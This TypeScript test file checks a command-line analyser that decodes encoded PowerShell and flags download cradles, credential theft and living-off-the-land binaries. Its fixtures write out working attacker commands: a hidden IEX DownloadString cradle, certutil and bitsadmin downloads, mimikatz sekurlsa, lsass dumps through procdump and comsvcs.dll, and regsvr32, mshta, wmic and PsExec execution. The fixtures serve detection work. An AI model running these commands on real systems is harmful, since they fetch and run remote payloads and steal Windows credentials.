import { analyseCommandLine, decodePowerShell } from '../../src/catalog/process-analysis.js';

const encode = (script: string) => Buffer.from(script, 'utf16le').toString('base64');
const cradle = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.66/a.ps1')";

describe('process.details command-line analysis', () => {
  it('decodes -EncodedCommand (UTF-16LE base64) and flags the download cradle inside it', () => {
    const r = analyseCommandLine(`powershell.exe -NoP -W Hidden -EncodedCommand ${encode(cradle)}`);
    expect(r.encoded).toBe(true);
    expect(r.decoded).toBe(cradle);
    expect(r.indicators).toEqual(expect.arrayContaining(['download cradle: Invoke-Expression (IEX)', 'download cradle: DownloadString']));
    expect(r.suspicious).toBe(true);
  });

  it.each(['-enc', '-e', '-ec', '/EncodedCommand', '-ENCODEDCOM'])(
    'accepts the %s spelling, with the image file naming PowerShell',
    (flag) => {
      const r = analyseCommandLine(`${flag} "${encode('Get-Date')}"`, 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe');
      expect(r).toEqual({ encoded: true, decoded: 'Get-Date', indicators: [], suspicious: false });
    },
  );

  it('does not treat -e of another program, or text that is not UTF-16, as encoded PowerShell', () => {
    expect(analyseCommandLine('grep -e pattern file.txt').encoded).toBe(false);
    expect(decodePowerShell(Buffer.from([0xff, 0x01, 0x02, 0x03, 0x04, 0x05]).toString('base64'))).toBeUndefined();
    const garbage = analyseCommandLine('pwsh -enc AAECAwQFBgcICQ==');
    expect(garbage).toMatchObject({ encoded: true, decoded: null });
  });

  it.each([
    ['certutil.exe -urlcache -split -f http://203.0.113.66/p.exe p.exe', 'download cradle: certutil -urlcache'],
    ['bitsadmin /transfer job /download /priority high http://x/p.exe C:\\p.exe', 'download cradle: bitsadmin'],
    ['powershell Invoke-WebRequest -Uri http://x/p.ps1 -OutFile p.ps1', 'download cradle: Invoke-WebRequest'],
    ['mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit', 'credential theft: sekurlsa'],
    ['mimikatz.exe "privilege::debug" exit', 'credential theft: mimikatz'],
    ['procdump64.exe -accepteula -ma lsass.exe C:\\Temp\\l.dmp', 'credential theft: procdump of lsass'],
    [
      'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\l.dmp full',
      'credential theft: comsvcs.dll MiniDump of lsass',
    ],
    ['rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication"', 'LOLBin: rundll32'],
    ['regsvr32 /s /n /u /i:http://x/file.sct scrobj.dll', 'LOLBin: regsvr32'],
    ['mshta http://x/payload.hta', 'LOLBin: mshta'],
    ['wmic /node:srv-01 process call create "cmd.exe /c whoami"', 'LOLBin: wmic process call create'],
    ['PsExec64.exe \\\\srv-01 -s cmd.exe', 'LOLBin: psexec'],
  ])('flags %s', (commandLine, indicator) => {
    const r = analyseCommandLine(commandLine);
    expect(r.indicators).toContain(indicator);
    expect(r.suspicious).toBe(true);
    expect(r.encoded).toBe(false);
  });

  it('finds nothing in an ordinary command line', () => {
    expect(analyseCommandLine('"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE" /e Q3-report.xlsx', 'EXCEL.EXE')).toEqual({
      encoded: false,
      decoded: null,
      indicators: [],
      suspicious: false,
    });
  });
});
